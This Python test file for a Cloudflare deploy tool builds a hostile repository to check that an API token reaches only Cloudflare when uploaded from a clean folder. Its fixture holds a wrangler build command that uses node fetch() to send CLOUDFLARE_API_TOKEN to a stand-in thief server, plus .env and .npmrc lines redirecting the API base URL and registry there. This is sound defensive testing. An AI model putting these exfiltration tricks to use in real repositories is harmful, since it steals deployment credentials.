"""A hostile repository against a real wrangler with a token: the token reaches Cloudflare's address, and no other."""

from __future__ import annotations

import http.server
import json
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from chittyactions.deploy.build import Build, write_artifact
from chittyactions.deploy.config import read_plan
from chittyactions.deploy.prepare import prepare_upload
from chittyactions.deploy.toolchain import wrangler_environment
from chittyactions.project.steps import Talk
from chittyactions.runner import Runner
from deploy.workers import COMMIT, MODULE, environment, the_wrangler, write_worker

pytestmark = pytest.mark.engines

TOKEN = "the-deploy-token"
ACCOUNT = "0123456789abcdef0123456789abcdef"


class Listener(http.server.ThreadingHTTPServer):
    """Refuses every request, and remembers the credentials that came with it."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Refusal)
        self.tokens: list[str] = []

    @property
    def url(self) -> str:
        """Its address, as Cloudflare's API has one."""
        return f"http://127.0.0.1:{self.server_port}/client/v4"


class Refusal(http.server.BaseHTTPRequestHandler):
    """Cloudflare's answer to a bad token."""

    server: Listener

    def answer(self) -> None:
        self.server.tokens.append(self.headers.get("Authorization", ""))
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        body = json.dumps({"success": False, "errors": [{"code": 10000, "message": "Authentication error"}]}).encode()
        self.send_response(403)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = answer  # noqa: N815 - named by http.server

    def log_message(self, *_: object) -> None:
        """Nothing."""


@pytest.fixture
def cloudflare() -> Iterator[Listener]:
    """Where the token may go."""
    yield from listening()


@pytest.fixture
def thief() -> Iterator[Listener]:
    """Where it may not."""
    yield from listening()


def listening() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def hostile(folder: Path, thief: Listener) -> Path:
    """A repository that tries what took the token elsewhere when it was tried."""
    steal = (
        "node -e \"fetch(process.argv[1], {headers: {Authorization: 'by build ' + process.env.CLOUDFLARE_API_TOKEN}})\""
    )
    redirect = f"CLOUDFLARE_API_BASE_URL={thief.url}\nCLOUDFLARE_ENV=evil\n"
    files = {
        "wrangler.jsonc": json.dumps(
            {
                "name": "victim",
                "main": "index.js",
                "compatibility_date": "2026-01-01",
                "account_id": ACCOUNT,
                "build": {"command": f"{steal} {thief.url}"},
            }
        ),
        "index.js": MODULE,
        ".env": redirect,
        ".env.local": redirect,
        ".dev.vars": redirect,
        ".npmrc": f"registry={thief.url}/\n",
    }
    return write_worker(folder, files)


def deploy(command: list[str], cwd: Path, env: dict[str, str]) -> str:
    done = subprocess.run(
        command, cwd=cwd, env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=100, check=False
    )
    assert done.returncode != 0
    return done.stdout + done.stderr


def test_from_the_checkout_it_is_stolen(cloudflare: Listener, thief: Listener, tmp_path: Path) -> None:
    """What a clean folder is for: the same token, used in the checkout, goes where the repository says."""
    checkout = hostile(tmp_path / "repo", thief)
    wrangler = the_wrangler()
    env = wrangler_environment(wrangler, environment(), tmp_path / "home", token=TOKEN, account_id=ACCOUNT)
    deploy(wrangler.command("deploy", "--env="), checkout, env)
    assert any(TOKEN in token for token in thief.tokens)
    assert cloudflare.tokens == []


def test_from_the_clean_folder_it_is_not(cloudflare: Listener, thief: Listener, tmp_path: Path) -> None:
    """Built apart and uploaded from the clean folder, the thief hears nothing of it, in every command that is used."""
    checkout = hostile(tmp_path / "repo", thief)
    wrangler = the_wrangler()
    plan = read_plan(checkout, ".", service="victim", environment="production")
    talk = Talk(say=lambda _: None, warn=lambda _: None, group=Runner({}).group)
    bundle, static = Build(checkout, ".", environment(), talk).bundle(plan, wrangler)
    write_artifact(tmp_path / "a.tar", plan, wrangler, bundle, static, COMMIT)
    thief.tokens.clear()  # the build job may talk to anybody: it has nothing to tell
    upload = prepare_upload(plan, tmp_path / "a.tar", tmp_path / "clean", commit=COMMIT)
    env = wrangler_environment(
        wrangler, environment(), tmp_path / "home", token=TOKEN, account_id=ACCOUNT, api=cloudflare.url
    )
    for command in (("deploy", *upload.code), ("versions", "upload", *upload.code), ("triggers", "deploy")):
        heard = len(cloudflare.tokens)
        said = deploy(wrangler.command(*command, *upload.target), upload.folder, env)
        assert len(cloudflare.tokens) > heard, said
    assert {token for token in cloudflare.tokens if token} == {f"Bearer {TOKEN}"}
    assert thief.tokens == []
